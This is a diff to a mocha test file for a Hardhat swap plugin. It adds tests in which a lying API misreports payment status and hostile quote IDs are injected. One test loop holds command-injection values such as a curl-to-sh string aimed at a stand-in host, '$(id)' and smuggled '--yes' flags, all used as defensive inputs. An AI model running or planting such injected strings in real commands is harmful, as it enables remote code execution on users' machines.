@@ -2,12 +2,13 @@ import { readdir, readFile, writeFile } from "node:fs/promises"
 import path from "node:path"
 
 import { expect } from "chai"
-import { after, before, describe, it } from "mocha"
+import { after, before, beforeEach, describe, it } from "mocha"
 import { renderUnicodeCompact } from "uqr"
 import { type Address, type Hex, isAddress } from "viem"
 
 import type { CommandOptions, EndedCommand } from "../../fixtures/endedCommand.js"
 import { eventually } from "../../fixtures/eventually.js"
+import { createRewritingApi, type RewritingApi } from "../../fixtures/servers/rewritingApi.js"
 import { temporaryProject } from "../../fixtures/hardhatCommand.js"
 import { type RunningCommand, startCommand, type TaskCommandOptions } from "../../fixtures/taskCommand.js"
 import { createSwapWorld, type SwapWorld } from "../../fixtures/worlds/swapWorld.js"
@@ -145,6 +146,93 @@ describe("hardhat swap execute --user-ops deposit, and swap pay", function () {
     expect(refused.code).to.equal(1)
     expect(refused.stderr).to.include("already paid")
     expect(await sentSoFar()).to.equal(before)
+  })
+
+  describe("with an API that lies", () => {
+    let api: RewritingApi
+    let answer: (path: string, text: string) => string
+    before(async () => {
+      api = await createRewritingApi(world.devnet.swap.baseUrl, (path, text) => answer(path, text))
+    })
+    after(async () => {
+      await api[Symbol.asyncDispose]()
+    })
+    beforeEach(() => {
+      answer = (_path, text) => text
+    })
+
+    const lied = (args: readonly string[]): Promise<EndedCommand> => {
+      const { env = {}, ...more } = options()
+      return startCommand(["swap", ...args], {
+        ...more,
+        env: { ...env, PLUGS_TEST_SWAP: JSON.stringify({ baseUrl: api.url }) },
+      }).ended
+    }
+    /** Says of every route that nobody has paid it. */
+    const denyPayment = (path: string, text: string): string => {
+      if (!path.includes("/status")) return text
+      const { result, ...envelope } = JSON.parse(text) as { result: { origin: object } }
+      const side = { status: "PENDING", txHash: null }
+      const origin = { ...result.origin, ...side }
+      return JSON.stringify({ ...envelope, result: { ...result, status: "PENDING", statusCode: "PENDING", origin } })
+    }
+    const payAfterLies = async ({ quoteId, address }: Opened): Promise<EndedCommand> =>
+      await lied(["pay", quoteId, "--from", "alpha", "--allow-target", address, "--yes"])
+
+    it("does not pay what a wallet has paid, because the chain shows the transfer", async () => {
+      const opened = await open("9")
+      await world.transfer(world.alpha, "usdc", opened.address, opened.amount)
+      await world.reaches(opened.quoteId, "COMPLETED")
+      answer = denyPayment
+      const before = await sentSoFar()
+      const { code, stderr } = await payAfterLies(opened)
+      expect(code).to.equal(1)
+      expect(stderr).to.include("already paid").and.to.include("have arrived")
+      expect(await sentSoFar()).to.equal(before)
+    })
+
+    it("does not pay what was seen to be paid, whatever the API says later", async () => {
+      const opened = await open("0.25", "ETH")
+      const { walletClient } = world.alpha
+      await walletClient.sendTransaction({ to: opened.address, value: opened.amount })
+      await world.reaches(opened.quoteId, "COMPLETED")
+      expect((await run(["execute", ...terms("0.25", "ETH")])).stdout).to.match(/Swap +COMPLETED/)
+      answer = denyPayment
+      const before = await sentSoFar()
+      expect((await payAfterLies(opened)).stderr).to.match(/already paid[^]*the API said/)
+      expect(await sentSoFar()).to.equal(before)
+    })
+
+    for (const quoteId of ["0x1;curl${IFS}evil|sh", "$(id)", "--yes", "abc\nSwap  COMPLETED  done", "0xabc --yes"]) {
+      it(`shows nothing of a quote that is called ${JSON.stringify(quoteId)}`, async () => {
+        answer = (path, text) =>
+          path.includes("/quote") ? text.replace(/"quoteId":"[^"]*"/g, `"quoteId":${JSON.stringify(quoteId)}`) : text
+        const { code, stdout } = await lied(["execute", ...terms("13")])
+        expect({ code, stdout }).to.deep.equal({ code: 1, stdout: "" })
+      })
+    }
+  })
+
+  it("never shows as payable what is paid", async () => {
+    const opened = await open("14")
+    await using paying = start([
+      "pay",
+      opened.quoteId,
+      "--from",
+      "alpha",
+      "--allow-target",
+      opened.address,
+      "--yes",
+      "--json",
+    ])
+    await paying.event(({ state }) => state === "MINED")
+    paying.interrupt()
+    await paying.ended
+    const again = await run(["execute", ...terms("14"), "--json"])
+    expect(again.code, again.stderr).to.equal(0)
+    expect(again.events[0]).to.include({ event: "paid", quoteId: opened.quoteId })
+    expect(again.events.map(({ event }) => event)).not.to.include("deposit")
+    expect((await open("14")).quoteId, "the next one is another deposit").not.to.equal(opened.quoteId)
   })
 
   it("pays nothing for a record that was changed on disk to ask for more, or that is broken", async () => {
